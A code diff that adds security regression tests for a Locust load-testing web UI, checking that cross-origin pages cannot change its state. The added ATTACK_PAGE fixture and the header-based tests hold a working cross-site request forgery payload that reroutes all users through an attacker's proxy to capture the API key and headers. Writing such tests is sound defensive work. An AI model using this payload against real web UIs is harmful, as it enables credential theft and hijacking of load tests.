@@ -1,15 +1,24 @@
 """The web UI of a real `locust` process is safe to leave running: it listens on loopback unless told otherwise, its
-start form sends nothing to a host the operator did not name, and it sets no option that reaches a file, a folder, a
-URL or a port (every option declared `startup_only`, and Locust's own file options)."""
+start form sends nothing to a host the operator did not name, it sets no option that reaches a file, a folder, a
+URL or a port (every option declared `startup_only`, and Locust's own file options), and no page of another origin
+changes its state."""
 
 from __future__ import annotations
 
+import contextlib
+import json
+import secrets
 import select
 import socket
+import subprocess
+import sys
+import time
 
 import psutil
-from conftest import LOCUSTFILE, read_summary, wait_for
+from conftest import LOCUSTFILE, free_port, read_summary, wait_for
 from harness.browser import browser_tools, chromium_page
+from harness.output import leaks
+from harness.proxy_server import RecordingProxy
 from harness.web_ui import http, locust_web_ui, post, post_json, template_args, ui_state, wait_for_page
 from locust.argument_parser import get_empty_argument_parser
 
@@ -21,7 +30,7 @@ QUIET_S = 4.0
 """How long a listener must see no connection after a refused start."""
 FILE_URL_PORT_OPTIONS = {
     "results_dir", "requests_jsonl", "dataset", "image", "tools_file", "tokenizer", "trace", "ca_bundle",
-    "metrics_url", "metrics_map", "prometheus_port", "prometheus_host", "allow_host",
+    "metrics_url", "metrics_map", "prometheus_port", "prometheus_host", "allow_host", "web_origin",
 }  # fmt: skip
 """The options that name a file, folder, URL or port (`config/options.py`), all of which must be declared start-up
 only; the test posts every declared one, so an option declared later is covered too."""
@@ -165,3 +174,139 @@ def test_the_refusal_of_a_foreign_host_shows_in_the_browser_form(tmp_path):
             pending, _, _ = select.select([stranger], [], [], QUIET_S)
             state, sent = ui_state(web.url), sim.trace()
     assert state == "ready" and pending == [] and sent == []
+
+
+def test_a_page_of_another_origin_cannot_send_the_users_through_its_proxy(tmp_path):
+    """The attack of issue 41: a page of another origin POSTs /user {proxy_host, proxy_port} (every user through a
+    "proxy" listening on a private port of 127.0.0.1), then /swarm, with the headers a browser sends (Origin, with and
+    without Sec-Fetch-Site; Referer alone). Each is refused (HTTP 403, one line naming the page's origin), and so is
+    its /stop; no test starts. A client without those headers (curl) is no browser and passes the origin check, but
+    /user's allow-list refuses the proxy fields (HTTP 400 naming the field) and accepts a weight. Then the UI's own
+    page starts a test and stops it: the proxy received 0 requests and no secret (before: every request of the test
+    — 258 in one run — with the key and the --header value), --host all of them."""
+    key, value = f"sk-{secrets.token_hex(12)}", f"hv-{secrets.token_hex(12)}"
+    with run_sim(*SIM_ARGS) as sim, RecordingProxy() as proxy:
+        port = int(proxy.url.rpartition(":")[2])
+        command = ["-f", str(LOCUSTFILE), "--host", sim.url, "--results-dir", str(tmp_path), "--api-key", key,
+                   "--header", f"X-Planted: {value}"]  # fmt: skip
+        with locust_web_ui(*command) as web:
+            ui = web.url
+            wait_for_page(ui, 30)
+            attacker = "http://127.0.0.1:5555"
+            pages = ({"Origin": attacker, "Sec-Fetch-Site": "same-site"}, {"Origin": attacker},
+                     {"Referer": f"{attacker}/a.html"}, {"Origin": "null", "Sec-Fetch-Site": "cross-site"})  # fmt: skip
+            edit = {"user_class_name": "ChatUser", "proxy_host": "127.0.0.1", "proxy_port": port}
+            form = {"user_count": 4, "spawn_rate": 4, "host": sim.url, "max_tokens": "8", "interval_s": "1"}
+            attacks = []
+            for headers in pages:
+                attacks.append(post_json(f"{ui}/user", edit, headers))
+                attacks.append(post(f"{ui}/swarm", form, headers))
+            time.sleep(2)  # a started test's first requests would be there by now
+            state, sent = ui_state(ui), len(sim.trace())
+            plain = [
+                post_json(f"{ui}/user", edit),
+                post_json(f"{ui}/user", {"user_class_name": "ChatUser", "weight": 1}),
+            ]
+            own = {"Origin": ui, "Sec-Fetch-Site": "same-origin", "Referer": f"{ui}/"}
+            started = post(f"{ui}/swarm", form, own)
+            wait_for(lambda: len(sim.trace()) >= 8 and ui_state(ui) == "running", 20, "requests to --host")
+            stop_refused = post(f"{ui}/stop", {}, pages[0])
+            running = ui_state(ui)
+            stopped = post(f"{ui}/stop", {}, own)
+            summary = wait_for(lambda: (tmp_path / "summary.json").exists() and read_summary(tmp_path), 20, "summary")
+    keyed = [headers for _line, headers in proxy.requests if key in str(headers)]
+    assert proxy.requests == [], f"{len(proxy.requests)} requests reached the proxy, {len(keyed)} with the key"
+    assert not leaks(str(proxy.requests), (key, value))
+    for code, answer in attacks:
+        answer = json.loads(answer) if isinstance(answer, bytes) else answer
+        assert code == 403 and answer["success"] is False, answer
+        path = answer["message"].partition(":")[0]
+        assert (
+            path in ("POST /user", "POST /swarm")
+            and "cross-origin request refused: from a page of " in answer["message"]
+        )
+        assert f"not of this web UI ({ui})" in answer["message"] and "\n" not in answer["message"]
+    assert state == "ready" and sent == 0
+    assert plain[0][0] == 400 and json.loads(plain[0][1])["message"].startswith(
+        "proxy_host: the web UI may change only"
+    )
+    assert plain[1][0] == 201
+    assert started == (200, {"success": True, "message": "Swarming started", "host": sim.url})
+    assert stop_refused[0] == 403 and running == "running" and stopped[0] == 200
+    assert summary["throughput"]["requests_ok"] >= 8 and summary["failures"] == {}
+
+
+ATTACK_PAGE = """<!doctype html><script>
+async function attack(ui, proxyPort, host) {
+  const edit = {user_class_name: "ChatUser", proxy_host: "127.0.0.1", proxy_port: proxyPort};
+  await fetch(ui + "/user", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
+                             body: JSON.stringify(edit)});
+  await fetch(ui + "/swarm", {method: "POST", mode: "no-cors",
+                              headers: {"Content-Type": "application/x-www-form-urlencoded"},
+                              body: "user_count=4&spawn_rate=4&max_tokens=8&host=" + encodeURIComponent(host)});
+  const form = document.createElement("form");  // a plain form post too: no script needed on the attacker's side
+  form.method = "POST"; form.action = ui + "/swarm"; form.target = "sink";
+  for (const [name, value] of [["user_count", "4"], ["spawn_rate", "4"], ["host", host]]) {
+    const input = document.createElement("input"); input.name = name; input.value = value; form.appendChild(input);
+  }
+  document.body.appendChild(form); form.submit();
+  return "sent";
+}
+</script><body><iframe name="sink"></iframe></body>"""
+
+
+def test_a_page_of_another_origin_in_a_real_browser_starts_nothing(tmp_path):
+    """Headless Chromium opens an attacker's page on another port of 127.0.0.1 (the same site, another origin), whose
+    script POSTs /user with a proxy on a private port and /swarm (fetch, no-cors), and submits a form to /swarm:
+    the browser sends them (with its own Origin and Sec-Fetch-Site), the UI refuses each (403, logged in one line
+    naming the page's origin), no test starts, the proxy and --host receive nothing. Then Locust's own page in the
+    same browser starts a test: the UI's own origin passes."""
+    browser_tools()  # skips the test, saying why, without Chromium
+    with run_sim(*SIM_ARGS) as sim, RecordingProxy() as proxy:
+        port = int(proxy.url.rpartition(":")[2])
+        command = ["-f", str(LOCUSTFILE), "--host", sim.url, "--results-dir", str(tmp_path), "--api-key", "sk-planted"]
+        site = tmp_path / "site"
+        site.mkdir()
+        (site / "attack.html").write_text(ATTACK_PAGE)
+        attacker_port = free_port()
+        attacker = f"http://127.0.0.1:{attacker_port}/attack.html"
+        server = subprocess.Popen([sys.executable, "-m", "http.server", str(attacker_port), "--bind", "127.0.0.1"],
+                                  cwd=site, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
+        with contextlib.closing(_Ended(server)), locust_web_ui(*command) as web, chromium_page() as page:
+            wait_for(lambda: _answers(attacker), 20, "the attacker's page")
+            ui = web.url
+            wait_for_page(ui, 30)
+            page.goto(attacker)
+            assert page.evaluate("([ui, port, host]) => attack(ui, port, host)", [ui, port, sim.url]) == "sent"
+            time.sleep(2)  # a started test's first requests would be there by now
+            state, sent = ui_state(ui), len(sim.trace())
+            assert proxy.requests == [] and sent == 0, f"{len(proxy.requests)} requests via the proxy, {sent} at --host"
+            page.goto(ui + "/")
+            page.fill("input[name=userCount]", "2")
+            page.fill("input[name=spawnRate]", "2")
+            page.get_by_role("button", name="Start").click()
+            wait_for(lambda: len(sim.trace()) >= 4, 20, "the test started on the UI's own page")
+            http(f"{ui}/stop", {})
+    assert proxy.requests == [] and state == "ready"
+    refusals = [line for line in web.output.splitlines() if "cross-origin request refused" in line]
+    assert [line.split("web UI: ", 1)[1].split(":", 1)[0] for line in refusals] == [
+        "POST /user", "POST /swarm", "POST /swarm"]  # fmt: skip
+    assert all(f"from a page of http://127.0.0.1:{attacker_port} (Sec-Fetch-Site: same-site)" in x for x in refusals)
+
+
+def _answers(url: str) -> bool:
+    try:
+        return bool(http(url))
+    except OSError:
+        return False
+
+
+class _Ended:
+    """A process terminated (and waited for) when closed."""
+
+    def __init__(self, process: subprocess.Popen) -> None:
+        self.process = process
+
+    def close(self) -> None:
+        self.process.terminate()
+        self.process.wait(timeout=10)
